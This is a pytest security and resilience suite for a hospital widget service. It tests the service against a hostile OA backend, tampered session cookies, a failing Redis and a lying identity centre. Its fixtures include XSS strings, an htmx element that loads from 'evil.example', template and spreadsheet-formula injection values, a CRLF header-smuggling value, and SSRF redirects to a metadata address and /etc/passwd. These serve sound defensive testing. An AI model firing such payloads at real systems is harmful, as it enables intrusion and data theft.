"""What an attacker, a broken OA, a lying centre and a dying Redis may try, over real sockets: none of it works.

Most of it happens at an annex: one more instance of the service, with the keys of the first, a clock of its own,
and its own database of the same Valkey behind a line that can be cut.
"""

from __future__ import annotations

import asyncio
import json
import re
import secrets
import ssl
import sys
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack, asynccontextmanager
from dataclasses import dataclass, field, fields
from datetime import UTC, datetime, timedelta
from html import unescape
from http.cookiejar import DefaultCookiePolicy
from urllib.parse import quote, urlsplit

import httpx2
import pytest
import pytest_asyncio
from redis.asyncio import Redis
from structlog.testing import capture_logs

from audit.store import Store
from demo.oa_world import Canned, Mode
from demo.people import GU, HAN, SHEN, WEN, XU, ZHOU, Person
from demo.places import listening, port
from demo.serving import Servers
from demo.switches import Switches
from demo.world import World
from tests.staff import Staff
from widgets.app import build
from widgets.settings import SettingsError, load

pytestmark = pytest.mark.asyncio(loop_scope="session")
JSON = {"Accept": "application/json"}
HTML = {"Accept": "text/html"}
PLAIN = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
"""Made once: a client that makes its own takes longer over it than over a request."""
WITH_LISTS = (SHEN, ZHOU, HAN, GU)
LIST = "/api/workflow/paService/getToDoWorkflowRequestList"
COUNT = "/api/workflow/paService/getToDoWorkflowRequestCount"
LOOK_UP = "/api/hrm/resful/getHrmUserInfoWithPage"
TOKEN = "/api/ec/dev/auth/applytoken"
DOCUMENTS = "/api/doc/mobile/systemDoc/getCategoryDocList"


_COMMAND = re.compile(rb"(?:^|\r\n)\*\d+\r\n")


@dataclass
class Line:
    """A wire to Valkey: it carries all, or only what does not read (`deaf`), is silent, cut, or answers with bytes."""

    target: int
    mode: str | bytes = "through"
    ends: set[asyncio.StreamWriter] = field(default_factory=set)

    async def __call__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.ends.add(writer)
        try:
            if self.mode != "cut":
                await self._carry(reader, writer)
        except OSError:
            pass
        finally:
            self.ends.discard(writer)
            writer.close()

    async def _carry(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        back, forth = await asyncio.open_connection("127.0.0.1", self.target)
        answers = asyncio.create_task(self._answers(back, writer))
        try:
            while self.mode != "cut" and (data := await reader.read(65536)):
                if isinstance(self.mode, bytes):
                    writer.write(self.mode)
                elif self.mode == "deaf" and b"GET\r\n" in data:
                    writer.write(b"-LOADING not yet\r\n" * len(_COMMAND.findall(data)))
                elif self.mode in ("through", "deaf"):
                    forth.write(data)
        finally:
            answers.cancel()
            forth.close()

    async def _answers(self, back: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while data := await back.read(65536):
            if self.mode in ("through", "deaf"):
                writer.write(data)

    def turn(self, mode: str | bytes) -> None:
        """From now on; connections that are open feel it, too."""
        self.mode = mode
        for writer in self.ends if mode == "cut" else ():
            writer.transport.abort()


@dataclass
class Annex:
    """One more instance of the service."""

    world: World
    line: Line
    memory: Redis
    memory_url: str
    address: str
    ahead: timedelta = timedelta(0)

    def now(self) -> datetime:
        return datetime.now(UTC) + self.ahead

    def later(self, seconds: float = 73) -> None:
        """Every list is old enough now to be asked for again."""
        self.ahead += timedelta(seconds=seconds)

    async def settled(self) -> None:
        """Every list is written down: that happens after the answer."""
        while writing := [task for task in asyncio.all_tasks() if "Flights._keep" in repr(task.get_coro())]:
            await asyncio.wait(writing)

    async def keys(self) -> list[bytes]:
        """The keys of all remembered lists."""
        await self.settled()
        return [key async for key in self.memory.scan_iter("pw:*:list:*")]

    async def forget(self) -> None:
        """Nothing is remembered in Redis."""
        await self.settled()
        await self.memory.flushdb()


@asynccontextmanager
async def instance(annex: Annex, changes: dict[str, str]) -> AsyncIterator[str]:
    """The address of a service with the hospital's configuration and these changes to its text."""
    text = annex.world.config.read_text("utf-8")
    busy = {"[identity]": "[identity]\nidle = 720"}  # the clock runs ahead, and nobody clicks
    for old, new in {**busy, **changes}.items():
        assert old in text
        text = text.replace(old, new)
    path = annex.world.folder / f"annex-{secrets.token_hex(4)}.toml"
    path.write_text(text, "utf-8")
    servers, place = Servers(), listening(0)
    address = f"http://127.0.0.1:{port(place)}"
    await servers.add(build(load(path, {}), annex.now), place)
    try:
        yield address
    finally:
        await servers.close()


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def running_annex(running_hospital: World) -> AsyncIterator[Annex]:
    world = running_hospital
    valkey = int(urlsplit(world.valkey.connection_url).port or 0)
    line, place = Line(valkey), listening(0)
    number = port(place)
    async with AsyncExitStack() as stack:
        await stack.enter_async_context(await asyncio.start_server(line, sock=place))
        memory = await stack.enter_async_context(Redis(port=valkey, db=1))
        annex = Annex(world, line, memory, f"redis://127.0.0.1:{number}/1", "")
        changes = {
            world.valkey.connection_url: annex.memory_url,
            "[redis]": 'trusted_proxies = ["127.0.0.0/8"]\n\n[redis]',
        }
        annex.address = await stack.enter_async_context(instance(annex, changes))
        yield annex


@pytest_asyncio.fixture(loop_scope="session")
async def annex(running_annex: Annex, hospital: World) -> AsyncIterator[Annex]:
    """Everybody well, every list due."""
    running_annex.line.turn("through")
    running_annex.later()
    await running_annex.settled()
    yield running_annex
    await running_annex.settled()
    running_annex.line.turn("through")


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def cookies(running_hospital: World) -> dict[Person, str]:
    """The session cookie of everybody."""
    running_hospital.switches.reset()
    return {person: await cookie_of(running_hospital, person) for person in (*WITH_LISTS, WEN, XU)}


async def cookie_of(world: World, person: Person) -> str:
    async with Staff.at(world) as staff:
        await staff.sign_in(person)
        return f"pw-session={staff.client.cookies['pw-session']}"


async def ask(address: str, path: str, cookie: str = "", **headers: str) -> httpx2.Response:
    """One request on a connection of its own."""
    async with httpx2.AsyncClient(base_url=address, trust_env=False, verify=PLAIN, timeout=10) as client:
        return await client.get(path, headers={**JSON, **({"Cookie": cookie} if cookie else {}), **headers})


async def raw(address: str, sent: bytes) -> bytes:
    """Everything that comes back for these bytes until the other end closes, or says no more."""
    reader, writer = await asyncio.open_connection("127.0.0.1", urlsplit(address).port)
    writer.write(sent)
    heard = b""
    try:
        while data := await asyncio.wait_for(reader.read(65536), 0.5):
            heard += data
    except TimeoutError:
        pass
    finally:
        writer.close()
    return heard


def titles(answer: httpx2.Response) -> set[str]:
    return {item["title"] for item in answer.json().get("items", ())}


def own_titles(world: World, person: Person) -> set[str]:
    return {task.title for task in world.oa.waiting(person)} | {
        document.title for document in world.oa.readable(person)
    }


# Whose list it is


async def test_titles_never_cross_whatever_the_oa_and_redis_do(
    annex: Annex, cookies: dict[Person, str]
) -> None:
    """Four people at once, while the OA and Redis change their moods, see titles of their own or none."""
    world = annex.world
    world.oa.delay = 0.05
    moods: list[tuple[Mode, str]] = [
        ("ok", "through"),
        ("slow", "through"),
        ("someone-else", "through"),
        ("slow", "cut"),
        ("garbage", "through"),
        ("ok", "silent"),
        ("someone-else", "through"),
    ]
    seen: set[str] = set()
    for mode, line in moods:
        annex.later()
        world.oa.mode = mode
        annex.line.turn(line)
        asked = [(who, name) for who in WITH_LISTS for name in ("todos", "notices") for _ in range(3)]
        answers = await asyncio.gather(
            *(ask(annex.address, f"/widgets/{name}?limit=50", cookies[who]) for who, name in asked)
        )
        for (who, _), answer in zip(asked, answers, strict=True):
            seen.add(answer.json()["state"])
            assert set() == titles(answer) - own_titles(world, who)
    assert {"ok", "stale"} <= seen and "empty" not in seen


async def test_values_swapped_in_redis_do_not_open(annex: Annex, cookies: dict[Person, str]) -> None:
    """Two people's lists under each other's keys are nobody's lists: failed, not somebody else's titles."""
    await annex.forget()
    for who in (SHEN, ZHOU):
        assert "ok" == (await ask(annex.address, "/widgets/todos", cookies[who])).json()["state"]
    one, other = await annex.keys()
    await annex.memory.rename(one, "aside")
    await annex.memory.rename(other, one)
    await annex.memory.rename("aside", other)
    annex.world.oa.mode = "down"
    for who in (SHEN, ZHOU):
        shown = await ask(annex.address, "/widgets/todos", cookies[who])
        assert ("failed", []) == (shown.json()["state"], shown.json()["items"])


@pytest.mark.parametrize("value", [b"", b"<script>alert(1)</script>", b"\x80\x04.", b"\x01" * 100_000, None])
async def test_a_poisoned_redis_is_a_miss(
    annex: Annex, cookies: dict[Person, str], value: bytes | None
) -> None:
    """Whatever stands under our keys, another type included, the list comes from the OA."""
    await ask(annex.address, "/widgets/todos", cookies[HAN])
    for key in await annex.keys():
        await annex.memory.delete(key)
        await (annex.memory.rpush(key, "x") if value is None else annex.memory.set(key, value))
    shown = await ask(annex.address, "/widgets/todos?limit=50", cookies[HAN])
    assert ("ok", {task.title for task in annex.world.oa.waiting(HAN)}) == (
        shown.json()["state"],
        titles(shown),
    )


@pytest.mark.parametrize("who", [XU, SHEN, None])
async def test_somebody_elses_address_opens_nothing(
    annex: Annex, cookies: dict[Person, str], who: Person | None
) -> None:
    """A reference sealed to one person is unknown to everybody else, and nobody is asked to sign in."""
    shown = await ask(annex.address, "/widgets/todos", cookies[ZHOU])
    path = urlsplit(shown.json()["items"][0]["href"]).path
    answer = await ask(annex.address, path, cookies[who] if who else "")
    assert (404 if who else 401) == answer.status_code


async def test_a_reference_with_one_letter_changed_opens_nothing(
    annex: Annex, cookies: dict[Person, str]
) -> None:
    """Each place of the sealed address counts."""
    shown = await ask(annex.address, "/widgets/todos", cookies[ZHOU])
    path = urlsplit(shown.json()["items"][0]["href"]).path
    for place in range(len("/open/"), len(path), 9):
        spoiled = path[:place] + ("A" if path[place] != "A" else "B") + path[place + 1 :]
        assert 404 == (await ask(annex.address, spoiled, cookies[ZHOU])).status_code


# Cookies


async def test_a_session_cookie_with_one_letter_changed_is_no_session(
    annex: Annex, cookies: dict[Person, str]
) -> None:
    """Flipped, cut off or lengthened: signed out, and nothing worse."""
    cookie = cookies[ZHOU]
    places = range(len("pw-session="), len(cookie), 11)
    spoiled = [cookie[:p] + ("A" if cookie[p] != "A" else "B") + cookie[p + 1 :] for p in places]
    for each in (
        *spoiled,
        cookie[:-1],
        cookie[:-4],
        cookie + "A",
        cookie + "AAAA",
        cookie + "=",
        cookie[:20],
    ):
        shown = await ask(annex.address, "/widgets/todos", each)
        assert (200, "signed-out") == (shown.status_code, shown.json()["state"])


async def test_a_damaged_session_cookie_leaves_one_line_in_the_trail(
    annex: Annex, cookies: dict[Person, str]
) -> None:
    """A card that polls, its badge and a click, all from one machine: behind the answers, and once.

    Some proxies add the port to its address, another one for each connection.
    """
    spoiled, machine = cookies[ZHOU][:-1], f"10.66.{secrets.randbelow(256)}.{secrets.randbelow(256)}"
    for path in 3 * ("/widgets/todos", "/widgets/todos/count", "/open/x"):
        told = f"{machine}:{40000 + secrets.randbelow(10000)}"
        await ask(annex.address, path, spoiled, **{"X-Forwarded-For": told})
    store = Store(f"sqlite:///{annex.world.folder / 'audit.db'}")
    for _ in range(100):  # the line is written behind the answer
        if lines := [line for line in store.page() if line.peer.startswith(machine)]:
            break
        await asyncio.sleep(0.05)
    store.close()
    assert [("sign-in", "refused", "cookie-damaged", machine)] == [
        (each.action, each.outcome, each.reason, each.peer) for each in lines
    ]


@pytest.mark.parametrize(
    "pattern", ["{a}; {b}", "{a}; {a}", "{a}; pw-session=", "pw-session; {a}", "{b};{a};x=y"]
)
async def test_two_copies_of_the_session_cookie_are_none(
    annex: Annex, cookies: dict[Person, str], pattern: str
) -> None:
    """One of them was planted, and nobody knows which."""
    cookie = pattern.format(a=cookies[ZHOU], b=cookies[SHEN])
    assert "signed-out" == (await ask(annex.address, "/widgets/todos", cookie)).json()["state"]


@pytest.mark.parametrize(
    ("base", "name", "end"),
    [
        (None, "pw-login-", "Path=/; HttpOnly; SameSite=Lax; Max-Age=300"),
        (
            "https://widgets.hospital.example",
            "__Host-pw-login-",
            "Path=/; HttpOnly; SameSite=Lax; Secure; Max-Age=300",
        ),
    ],
)
async def test_cookies_are_bound_to_our_host_as_far_as_the_address_allows(
    annex: Annex, base: str | None, name: str, end: str
) -> None:
    """No cookie is for scripts or for other hosts; with https the name says so."""
    changes = {f'"{annex.world.at.widgets}"': json.dumps(base or annex.world.at.widgets)}
    async with instance(annex, changes) as address:
        said = (await ask(address, "/auth/login", **HTML)).headers["Set-Cookie"]
    assert (True, end) == (said.startswith(name), said.partition("; ")[2])


async def test_a_copy_kept_from_before_signing_out_stays_worthless_without_redis(annex: Annex) -> None:
    """The instance that ended a session remembers it when Redis is emptied, and when it is away."""
    cookie = await cookie_of(annex.world, ZHOU)
    async with httpx2.AsyncClient(base_url=annex.address, trust_env=False) as client:
        await client.post("/auth/logout", headers={"Cookie": cookie, "Origin": annex.world.at.widgets})
    await annex.forget()
    states = [(await ask(annex.address, "/widgets/todos", cookie)).json()["state"]]
    annex.line.turn("cut")
    states.append((await ask(annex.address, "/widgets/todos", cookie)).json()["state"])
    assert ["signed-out", "signed-out"] == states


# What an OA may send


NESTED = b"[" * 100_000
ROW = {"requestId": "1", "requestName": "一件事"}


def said(value: object) -> bytes:
    return json.dumps(value).encode()


NO_IDS: tuple[object, ...] = ("../x", "a b", "\n", [], {}, True, 1.5, "", None)
NO_LEVELS: tuple[object, ...] = (-1, "99", None, {}, [], "2 ", True, 1e5)
NO_TIMES: tuple[object, ...] = (
    *("0000-00-00 00:00:00", "9999-12-31 23:59:59", "2026-02-29", 1_700_000_000_000, None, [], "x" * 9999),
    *("2026-11-23T00:00:00+23:59", "2026-11-23 24:00:00", "１９９９-01-01", "-1", True),
)
NO_LIST: dict[str, Canned] = {
    "nothing": Canned(b""),
    "204": Canned(b"", 204),
    "null": Canned(b"null"),
    "object": Canned(b"{}"),
    "text": Canned(b'"[]"'),
    "number": Canned(b"0"),
    "false": Canned(b"false"),
    "cut": Canned(b'[{"requestId":"1","requestName":"x"'),
    "trailing": Canned(b"[] []"),
    "nested": Canned(NESTED),
    "nested-row": Canned(b'[{"requestName":' + NESTED),
    "code": Canned(said({"code": 500, "msg": "x"})),
    "status": Canned(said({"status": False, "msg": "\u2028\x9b[31m{", "code": {"a": [1]}})),
    "error": Canned(said({"errorCode": "\x00", "msg": [1]})),
    "login-page": Canned(b"<html><form>", headers=(("Content-Type", "text/html"),)),
    "redirect": Canned(b"[]", 302, (("Location", "http://169.254.169.254/"),)),
    "redirect-307": Canned(b"[]", 307, (("Location", "file:///etc/passwd"),)),
    "unauthorised": Canned(b"[]", 401),
    "teapot": Canned(b"[]", 418),
    "busy": Canned(b"[]", 429, (("Retry-After", "99999999999"),)),
    "broken": Canned(b"[]", 500),
    "gzip": Canned(b"\x1f\x8b", headers=(("Content-Encoding", "gzip"),)),
    "brotli": Canned(b"[]", headers=(("Content-Encoding", "br"),)),
    "long": Canned(b"[" + b" " * 1_100_000 + b"]"),
    "null-row": Canned(b"[null]"),
    "empty-row": Canned(b"[{}]"),
    "renamed": Canned(said([{"id": 1, "name": "一件事"}] * 3)),
    "nan": Canned(b"[NaN]"),
    "infinite": Canned(b'[{"requestId":1e999,"requestName":"x"}]'),
    "long-number": Canned(b'[{"requestId":' + b"9" * 5000 + b',"requestName":"x"}]'),
    "twice-named": Canned(b'[{"requestId":"1","requestId":"2","requestName":"x"}]'),
    "invisible": Canned(said([{"requestId": "1", "requestName": "\u200b\u202e\u2066\ufeff \x00\x85"}])),
    "utf-16": Canned(b"\xff\xfe" + b"\x00\xd8" * 50),
    "ids": Canned(said([{**ROW, "requestId": bad} for bad in NO_IDS])),
    "count-says-more": Canned(b"[]"),
}


@pytest.mark.parametrize("name", NO_LIST)
async def test_an_answer_without_a_list_is_a_failure_and_never_an_empty_card(
    annex: Annex, cookies: dict[Person, str], name: str
) -> None:
    """Nothing remembered: failed with a number; a list remembered: that list, marked. No 5xx, no `empty`."""
    path = "/widgets/todos?limit=50"
    annex.world.oa.canned[LIST] = NO_LIST[name]
    annex.line.turn("cut")
    shown = await ask(annex.address, path, cookies[ZHOU])
    assert (200, "failed", True) == (
        shown.status_code,
        shown.json()["state"],
        bool(shown.json()["reference"]),
    )
    await annex.settled()
    annex.line.turn("through")
    annex.world.oa.canned.clear()
    good = await ask(annex.address, path, cookies[ZHOU])
    await annex.settled()
    annex.world.oa.canned[LIST] = NO_LIST[name]
    annex.later()
    kept = await ask(annex.address, path, cookies[ZHOU])
    assert ("ok", "stale", titles(good)) == (good.json()["state"], kept.json()["state"], titles(kept))


async def test_nothing_to_do_is_said_when_the_oa_says_so(annex: Annex, cookies: dict[Person, str]) -> None:
    """The one way to an empty card: an empty list, and a count that does not contradict it."""
    annex.world.oa.canned = {LIST: Canned(b"[]"), COUNT: Canned(b"0")}
    assert "empty" == (await ask(annex.address, "/widgets/todos", cookies[ZHOU])).json()["state"]


@pytest.mark.parametrize(
    "body", [b'{"api_status":true}', b'{"api_status":true,"docs":[{}]}', b"[]", b'{"api_status":1,"docs":[]}']
)
async def test_documents_that_make_no_sense_are_a_failure(
    annex: Annex, cookies: dict[Person, str], body: bytes
) -> None:
    """Notices, too, are never empty because an answer could not be read."""
    annex.line.turn("cut")
    annex.world.oa.canned[DOCUMENTS] = Canned(body)
    shown = await ask(annex.address, "/widgets/notices", cookies[ZHOU])
    assert (200, "failed") == (shown.status_code, shown.json()["state"])


@pytest.mark.parametrize("body", [b"-1", b"1e9", b"[]", b"99999999999", b'"x"', b"NaN", b"<p>", b"true"])
async def test_a_count_that_is_none_is_a_question_mark(
    annex: Annex, cookies: dict[Person, str], body: bytes
) -> None:
    """The list stays, and no invented number is shown beside it."""
    annex.world.oa.canned[COUNT] = Canned(body)
    shown = await ask(annex.address, "/widgets/todos", cookies[ZHOU])
    assert ("ok", "?") == (shown.headers["Widget-State"], shown.headers["Widget-Count"])


TYPED = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</title></textarea>--> ]]>",
    "</template></portal-widget></section>",
    "\" autofocus onfocus=alert(1) x='",
    "' style=position:fixed `",
    '<div hx-get="//evil.example" hx-trigger=load>',
    "{{7*7}} {% raw %} ${7*7} #{7*7}",
    "<div>" * 60,
    "javascript:alert(1)",
    "&lt;b&gt; &amp;amp; &#60;",
    "=cmd()|'/c calc'!A0",
)


@pytest.mark.parametrize(
    "form", [{"HX-Request": "true", "Accept": "*/*"}, {"Accept": "text/html", "Sec-Fetch-Mode": "cors"}]
)
async def test_hostile_titles_are_shown_as_typed(
    annex: Annex, cookies: dict[Person, str], form: dict[str, str]
) -> None:
    """In a fragment and in a document: the words as they were typed, in as many rows, and not one more tag."""
    annex.world.oa.canned[LIST] = Canned(
        said([{**ROW, "requestId": str(n), "requestName": t[:200]} for n, t in enumerate(TYPED)])
    )
    plain = Canned(said([{**ROW, "requestId": str(n)} for n, _ in enumerate(TYPED)]))
    hostile = (await ask(annex.address, "/widgets/todos?limit=50&v=0", cookies[ZHOU], **form)).text
    annex.world.oa.canned[LIST] = plain
    annex.later()
    honest = (await ask(annex.address, "/widgets/todos?limit=50&v=0", cookies[ZHOU], **form)).text
    assert re.findall(r"<[a-z/-]+", honest) == re.findall(r"<[a-z/-]+", hostile)
    shown = [unescape(t) for t in re.findall(r'class="pw-text" title="([^"]*)"', hostile)]
    assert {t[:200] for t in TYPED} == set(shown)


ODD: tuple[object, ...] = (
    {**ROW, "requestId": "s1", "requestName": "\ud800坏\udfff"},
    {**ROW, "requestId": "s2", "requestName": "\x00\x1b[31m\x85\u2028\u202e红"},
    {**ROW, "requestId": "s3", "requestName": "e" + "\u0301" * 500},
    {**ROW, "requestId": "s4", "requestName": "长" * 100_000},
    *({**ROW, "requestId": f"d{n}", "receiveTime": time} for n, time in enumerate(NO_TIMES)),
    *({**ROW, "requestId": f"l{n}", "requestLevel": level} for n, level in enumerate(NO_LEVELS)),
    {
        **ROW,
        "requestId": "w1",
        "workflowBaseInfo": [],
        "currentNodeName": {},
        "creatorName": 7,
        "viewtype": [],
    },
    {**ROW, "__proto__": {"x": 1}, "requestId": "p1"},
    {**ROW, "requestId": "p1", "requestName": "同号"},
    {**ROW, "requestId": 2**63, "requestName": "大号"},
    *({**ROW, "requestId": bad} for bad in (*NO_IDS, "1\r\nSet-Cookie: x=y", "javascript:alert(1)", "..")),
    "row",
    None,
    1,
    [],
    [[]],
)


async def test_a_bad_row_costs_itself_and_every_link_leads_to_us(
    annex: Annex, cookies: dict[Person, str]
) -> None:
    """Broken text, times, levels and numbers: the honest rows are all there, each title short and on one line."""
    annex.world.oa.odd_rows = list(ODD)
    shown = await ask(annex.address, "/widgets/todos?limit=50", cookies[ZHOU])
    honest = {task.title for task in annex.world.oa.waiting(ZHOU)}
    assert ("ok", set()) == (shown.json()["state"], honest - titles(shown))
    assert [] == [t for t in titles(shown) if len(t) > 200 or not t.isprintable()]
    hrefs = [item["href"] for item in shown.json()["items"]]
    assert [] == [href for href in hrefs if not href.startswith(f"{annex.world.at.widgets}/open/")]
    targets = [await ask(annex.address, urlsplit(href).path, cookies[ZHOU]) for href in hrefs[-3:]]
    assert {annex.world.at.oa} == {"/".join(t.headers["Location"].split("/")[:3]) for t in targets}


async def test_ten_thousand_rows_are_not_read(annex: Annex, cookies: dict[Person, str]) -> None:
    """An OA that ignores the page size holds nobody up: the first few hundred rows are enough."""
    await annex.forget()
    rows = [{**ROW, "requestId": str(n)} for n in range(12_000)]
    annex.world.oa.canned[LIST] = Canned(said(rows))
    shown = await ask(annex.address, "/widgets/todos?limit=50", cookies[ZHOU])
    assert ("ok", 50) == (shown.json()["state"], len(shown.json()["items"]))
    sizes = [await annex.memory.strlen(key) for key in await annex.keys()]
    assert [True] == [size < 200_000 for size in sizes]


async def test_a_new_service_survives_an_oa_that_lies_from_the_first_call(
    annex: Annex, cookies: dict[Person, str]
) -> None:
    """At the token and at the look-up, too, every hostile body ends in a failed card."""
    annex.line.turn("cut")
    async with instance(annex, {annex.world.valkey.connection_url: annex.memory_url}) as address:
        for path in (TOKEN, LOOK_UP):
            for canned in NO_LIST.values():
                annex.world.oa.canned = {path: canned}
                shown = await ask(address, "/widgets/todos", cookies[ZHOU])
                assert (200, "failed") == (shown.status_code, shown.json()["state"])


async def test_an_oa_that_tells_about_somebody_else_is_counted_and_alarmed(
    annex: Annex, cookies: dict[Person, str]
) -> None:
    """Nobody is shown it, the metric moves, and the log has a line that wakes somebody up."""
    await annex.forget()
    annex.world.oa.mode = "someone-else"
    with capture_logs() as lines:
        async with instance(annex, {annex.world.valkey.connection_url: annex.memory_url}) as address:
            shown = await ask(address, "/widgets/todos", cookies[ZHOU])
            told = (await ask(address, "/metrics", Accept="text/plain")).text
    assert ("failed", []) == (shown.json()["state"], shown.json()["items"])
    alarms = [(line["log_level"], line["rows"]) for line in lines if line["event"] == "oa.foreign_rows"]
    counted = re.findall(r'foreign_rows_total\{source="main-oa"\} ([0-9.]+)', told)
    assert alarms == [("error", 1)] and counted == ["1.0"]


async def test_the_same_item_twice_is_shown_once(annex: Annex, cookies: dict[Person, str]) -> None:
    """Also when its title has changed in between."""
    await annex.forget()
    rows = [{**ROW, "requestId": "5"}, {**ROW, "requestId": "5", "requestName": "改名"}, ROW, ROW]
    annex.world.oa.canned = {LIST: Canned(said(rows)), COUNT: Canned(b"4")}
    shown = await ask(annex.address, "/widgets/todos", cookies[ZHOU])
    assert ("ok", 2) == (shown.json()["state"], len(shown.json()["items"]))


async def test_a_redis_lost_while_the_oa_is_down_costs_nobody_their_list(
    annex: Annex, cookies: dict[Person, str]
) -> None:
    """A failure that could not see what is remembered does not take its place."""
    good = await ask(annex.address, "/widgets/todos", cookies[SHEN])
    await annex.keys()
    annex.world.oa.mode = "down"
    annex.later()
    annex.line.turn("deaf")
    blind = await ask(annex.address, "/widgets/todos", cookies[SHEN])
    await annex.settled()
    annex.line.turn("through")
    annex.later()
    shown = await ask(annex.address, "/widgets/todos", cookies[SHEN])
    assert ("failed", "stale") == (blind.json()["state"], shown.json()["state"])
    assert titles(good) == titles(shown)


# What a dying Redis may do


@pytest.mark.parametrize(
    "mode",
    [
        "cut",
        "silent",
        "deaf",
        b"+OK\r\n",
        b":1\r\n",
        b"*1\r\n$-1\r\n",
        b"HTTP/1.1 400 x\r\n\r\n",
        b"\xff\xfe",
    ],
)
async def test_without_redis_a_signed_in_person_still_gets_their_list_at_the_first_look(
    annex: Annex, cookies: dict[Person, str], mode: str | bytes
) -> None:
    """Refused, silent, loading, out of step or no Redis at all: the list comes from the OA, within the patience."""
    annex.line.turn(mode)
    for who in (ZHOU, HAN):
        shown = await ask(annex.address, "/widgets/todos?limit=50", cookies[who])
        mine = {task.title for task in annex.world.oa.waiting(who)}
        assert (200, "ok", mine) == (shown.status_code, shown.json()["state"], titles(shown))


@pytest.mark.parametrize("word", [b"-MOVED\r\n", b"-ASK 1 h:p\r\n", b">0\r\n", b"%1\r\n*0\r\n+x\r\n"])
async def test_what_the_client_of_redis_stumbles_over_costs_nobody_their_list(
    annex: Annex, cookies: dict[Person, str], word: bytes
) -> None:
    """Well formed, and without what such an answer needs."""
    good = await ask(annex.address, "/widgets/todos?limit=50", cookies[ZHOU])
    annex.line.turn(word)
    annex.later()
    shown = await ask(annex.address, "/widgets/todos?limit=50", cookies[ZHOU])
    assert ("ok", "ok", titles(good)) == (good.json()["state"], shown.json()["state"], titles(shown))


@pytest.mark.parametrize("lang", ["zh-CN", "en"])
async def test_after_ten_minutes_without_redis_no_list_is_shown_until_it_is_back(
    annex: Annex, cookies: dict[Person, str], lang: str
) -> None:
    """Nobody could say who was locked meanwhile: the card says so, leads to the OA, and asks again soon."""
    annex.line.turn("cut")
    cards = f"/widgets/todos?lang={lang}"
    states = [(await ask(annex.address, cards, cookies[ZHOU])).json()["state"]]
    annex.later(600)
    shown = await ask(annex.address, cards, cookies[ZHOU])
    drawn = await ask(
        annex.address, cards, cookies[ZHOU], Accept="text/html", **{"Sec-Fetch-Mode": "navigate"}
    )
    click = await ask(annex.address, "/open/x", cookies[ZHOU], **HTML)
    annex.line.turn("through")
    states += [shown.json()["state"], (await ask(annex.address, cards, cookies[ZHOU])).json()["state"]]
    assert ["ok", "failed", "ok"] == states
    assert ("unchecked", "10") == (shown.json()["reason"], shown.headers["Widget-Refresh-After"])
    words = {"zh-CN": "暂时无法确认登录状态", "en": "It cannot be confirmed now that you are still signed in"}
    assert words[lang] in drawn.text and annex.world.at.oa in drawn.text
    assert (303, True) == (click.status_code, "/auth/login" in click.headers["Location"])


@pytest.mark.parametrize("mode", ["cut", "silent", b":1\r\n"])
async def test_without_redis_nobody_can_sign_in_and_is_told_so(annex: Annex, mode: str | bytes) -> None:
    """A page with a number and 503; a silent attempt goes back to its card."""
    annex.line.turn(mode)
    page = await ask(annex.address, "/auth/login", **HTML)
    back = await ask(annex.address, "/auth/login?silent=1&return=%2Fwidgets%2Ftodos%3Fsilent%3D0", **HTML)
    assert (503, True) == (page.status_code, bool(re.search(r"\b[0-9A-F]{8}\b", page.text)))
    assert f"{annex.world.at.widgets}/widgets/todos?silent=0" == back.headers["Location"]


async def test_a_click_opens_while_redis_and_the_trail_are_away(
    annex: Annex, cookies: dict[Person, str]
) -> None:
    """Somebody signed in reaches the OA; the event waits in memory."""
    shown = await ask(annex.address, "/widgets/todos", cookies[HAN])
    path = urlsplit(shown.json()["items"][0]["href"]).path
    nowhere = {str(annex.world.folder / "audit.db"): "/proc/nowhere/audit.db"}
    async with instance(annex, {**nowhere, annex.world.valkey.connection_url: annex.memory_url}) as address:
        annex.line.turn("silent")
        answer = await ask(address, path, cookies[HAN])
    assert (303, True) == (answer.status_code, answer.headers["Location"].startswith(annex.world.at.oa))


# What a lying identity centre may do

HARMLESS = {
    "down",
    "slow",
    "odd_keys",
    "ignores_prompt_none",
    "cuts_windows_off",
    "no_account",
    "silent_logout",
}
AT_DISCOVERY = {"html_discovery", "foreign_metadata"}


@pytest.mark.parametrize("name", sorted({f.name for f in fields(Switches)} - HARMLESS - AT_DISCOVERY))
async def test_a_lie_of_the_centre_ends_without_a_session_and_with_a_number(staff: Staff, name: str) -> None:
    """Whatever is wrong with the callback, the token or the person: 4xx or 503, a number, no session."""
    with staff.world.switches.only(name):
        page = await staff.sign_in(ZHOU)
    assert page.status_code in (400, 503)
    assert re.search(r"\b[0-9A-F]{8}\b", page.text) and "Traceback" not in page.text
    assert "pw-session" not in staff.client.cookies


@pytest.mark.parametrize("name", sorted(AT_DISCOVERY))
async def test_a_centre_whose_metadata_lies_is_not_gone_to(annex: Annex, name: str) -> None:
    """Nobody is sent anywhere: 503 and a number."""
    async with instance(annex, {}) as address:
        with annex.world.switches.only(name):
            page = await ask(address, "/auth/login", **HTML)
    assert (503, True) == (page.status_code, bool(re.search(r"\b[0-9A-F]{8}\b", page.text)))


async def callback(staff: Staff) -> str:
    """The address that the centre sends this browser back to, not yet followed."""
    page = await staff.get("/auth/login")
    staff.client.follow_redirects = False
    answer = await staff.send_form(page, choosing=ZHOU.subject)
    return answer.headers["Location"]


async def test_a_callback_works_once(staff: Staff, hospital: World) -> None:
    """The second time its state is unknown, in whichever browser."""
    address = await callback(staff)
    first, second = await staff.get(address), await staff.get(address)
    async with Staff.at(hospital) as other:
        third = await other.get(address)
    assert [303, 400, 400] == [first.status_code, second.status_code, third.status_code]


async def test_an_attackers_callback_signs_no_victim_in(staff: Staff, hospital: World) -> None:
    """Login CSRF: the state belongs to another browser, so the victim gets no session."""
    address = await callback(staff)
    async with Staff.at(hospital) as victim:
        await victim.get("/auth/login")
        answer = await victim.get(address)
        assert (400, False) == (answer.status_code, "pw-session" in victim.client.cookies)


@pytest.mark.parametrize("extra", ["&state=x", "&code=x", "&iss=x", "&error=x", "&code=", "&%73tate=x"])
async def test_a_callback_with_a_parameter_twice_or_an_error_signs_nobody_in(
    staff: Staff, extra: str
) -> None:
    """Two readers could take different ones."""
    answer = await staff.get(await callback(staff) + extra)
